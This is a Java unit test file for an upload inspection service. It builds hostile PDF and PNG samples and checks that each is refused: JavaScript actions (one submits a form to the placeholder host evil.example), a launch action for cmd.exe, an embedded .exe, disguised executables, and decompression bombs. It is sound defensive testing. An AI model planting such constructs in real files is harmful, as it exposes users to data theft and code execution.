package org.onewindow.shared.upload;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.junit.jupiter.api.Test;
import org.onewindow.shared.RuleViolationException;
import org.springframework.util.unit.DataSize;

/** An uploaded file is read as what it claims to be, and refused, naming the field and the rule, when that reading finds harm. */
class UploadInspectionTest {

    private final UploadInspection inspection = new UploadInspection(300, DataSize.ofMegabytes(8), 40_000_000);

    @Test
    void honestDocumentsPassWithTheTypeTheirContentShows() {
        assertThat(inspection.inspect("file", "身份证.pdf", "application/pdf", SampleFiles.pdf()).contentType()).isEqualTo("application/pdf");
        assertThat(inspection.inspect("file", "照片.png", "image/png", SampleFiles.image("png", 640, 480)).kind()).isEqualTo(FileKind.PNG);
        assertThat(inspection.inspect("file", "照片.JPG", null, SampleFiles.image("jpg", 640, 480)).kind()).isEqualTo(FileKind.JPEG);
        // links to web pages are no threat
        byte[] withLink = SampleFiles.pdf(document -> link(document, uri("https://www.zj.gov.cn/")));
        assertThat(inspection.inspect("file", "通知.pdf", "application/pdf", withLink).size()).isEqualTo(withLink.length);
        // a certificate that only forbids editing opens without a password, so it is read and checked
        byte[] printOnly = SampleFiles.pdf(document -> document.protect(policy("owner-secret", "")));
        assertThat(inspection.inspect("file", "证书.pdf", "application/pdf", printOnly).kind()).isEqualTo(FileKind.PDF);
    }

    @Test
    void aPdfWithJavaScriptIsRefused() {
        byte[] onOpening = SampleFiles.pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)")));
        assertRefused(onOpening, "upload.pdf-javascript");

        byte[] inTheNames = SampleFiles.pdf(document -> {
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("startup", new PDActionJavaScript("this.submitForm('https://evil.example/')")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);
        });
        assertRefused(inTheNames, "upload.pdf-javascript");

        byte[] behindALink = SampleFiles.pdf(document -> link(document, new PDActionJavaScript("app.launchURL('x')")));
        assertRefused(behindALink, "upload.pdf-javascript");

        // a chain: a harmless link whose next action is a script
        byte[] chained = SampleFiles.pdf(document -> {
            PDActionURI first = uri("https://www.zj.gov.cn/");
            first.setNext(List.of(new PDActionJavaScript("app.alert(2)")));
            link(document, first);
        });
        assertRefused(chained, "upload.pdf-javascript");
    }

    @Test
    void aPdfWithALaunchActionIsRefused() {
        byte[] launching = SampleFiles.pdf(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
            link(document, launch);
        });
        assertRefused(launching, "upload.pdf-launch");
    }

    @Test
    void aPdfWithAnEmbeddedFileIsRefused() {
        byte[] withAttachment = SampleFiles.pdf(document -> {
            PDEmbeddedFile file = new PDEmbeddedFile(document, new java.io.ByteArrayInputStream("MZ...".getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("invoice.exe");
            spec.setEmbeddedFile(file);
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("invoice.exe", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        });
        assertRefused(withAttachment, "upload.pdf-embedded-file");
    }

    @Test
    void aPdfThatNeedsAPasswordIsRefusedSinceNoOneCouldReadIt() {
        assertRefused(SampleFiles.pdf(document -> document.protect(policy("owner-secret", "user-secret"))), "upload.pdf-encrypted");
    }

    @Test
    void aFileThatIsNotAPdfAfterItsHeaderIsRefused() {
        assertRefused("%PDF-1.7\n<script>alert(1)</script>".getBytes(StandardCharsets.US_ASCII), "upload.pdf-unreadable");
        byte[] pdf = SampleFiles.pdf();
        byte[] renamedExecutable = Arrays.copyOf("%PDF-1.4\n".getBytes(StandardCharsets.US_ASCII), 4096);
        renamedExecutable[9] = 'M';
        renamedExecutable[10] = 'Z';
        assertRefused(renamedExecutable, "upload.pdf-unreadable");
        assertRefused(Arrays.copyOf(pdf, pdf.length / 3), "upload.pdf-unreadable");
    }

    @Test
    void aPdfOverThePageLimitIsRefused() {
        UploadInspection twoPages = new UploadInspection(2, DataSize.ofMegabytes(8), 40_000_000);
        byte[] threePages = SampleFiles.pdf(document -> {
            document.addPage(new PDPage());
            document.addPage(new PDPage());
        });
        assertThatThrownBy(() -> twoPages.inspect("file", "a.pdf", "application/pdf", threePages))
                .isInstanceOfSatisfying(RuleViolationException.class,
                        e -> assertThat(e.violations().getFirst().rule()).isEqualTo("upload.pdf-too-many-pages"));
    }

    @Test
    void aPdfWhoseStreamInflatesFarBeyondItsSizeIsRefusedBeforeItIsParsed() {
        byte[] bomb = SampleFiles.pdf(document -> {
            PDStream content = new PDStream(document);
            try (OutputStream out = content.createOutputStream(COSName.FLATE_DECODE)) {
                out.write(new byte[9 * 1024 * 1024]);
            }
            document.getPage(0).setContents(content);
        });
        assertThat(bomb.length).isLessThan(100_000);
        assertRefused(bomb, "upload.pdf-too-large");
    }

    @Test
    void aDecompressionBombPngIsRefusedBeforeDecoding() {
        byte[] bomb = SampleFiles.pngClaiming(50_000, 50_000);
        assertThat(bomb.length).isLessThan(2_000);
        assertThatThrownBy(() -> inspection.inspect("photo", "照片.png", "image/png", bomb))
                .isInstanceOfSatisfying(RuleViolationException.class, e -> {
                    assertThat(e.violations().getFirst().field()).isEqualTo("photo");
                    assertThat(e.violations().getFirst().rule()).isEqualTo("upload.image-too-large");
                    assertThat(e.violations().getFirst().args()).containsExactly(50_000L, 50_000L, 40L);
                });
    }

    @Test
    void anImageWhoseDataDoesNotDecodeIsRefused() {
        assertRefusedImage(SampleFiles.pngClaiming(400, 300), "upload.image-unreadable");
        byte[] png = SampleFiles.image("png", 64, 64);
        assertRefusedImage(Arrays.copyOf(png, 40), "upload.image-unreadable");
    }

    private void assertRefused(byte[] pdf, String rule) {
        assertThatThrownBy(() -> inspection.inspect("file", "材料.pdf", "application/pdf", pdf))
                .isInstanceOfSatisfying(RuleViolationException.class, e -> {
                    assertThat(e.violations().getFirst().field()).isEqualTo("file");
                    assertThat(e.violations().getFirst().rule()).isEqualTo(rule);
                });
    }

    private void assertRefusedImage(byte[] png, String rule) {
        assertThatThrownBy(() -> inspection.inspect("file", "照片.png", "image/png", png))
                .isInstanceOfSatisfying(RuleViolationException.class,
                        e -> assertThat(e.violations().getFirst().rule()).isEqualTo(rule));
    }

    private static void link(PDDocument document, PDAction action) throws java.io.IOException {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(10, 10, 100, 20));
        link.setAction(action);
        document.getPage(0).getAnnotations().add(link);
    }

    private static PDActionURI uri(String address) {
        PDActionURI uri = new PDActionURI();
        uri.setURI(address);
        return uri;
    }

    private static StandardProtectionPolicy policy(String owner, String user) {
        AccessPermission permissions = new AccessPermission();
        permissions.setCanModify(false);
        StandardProtectionPolicy policy = new StandardProtectionPolicy(owner, user, permissions);
        policy.setEncryptionKeyLength(128);
        return policy;
    }
}
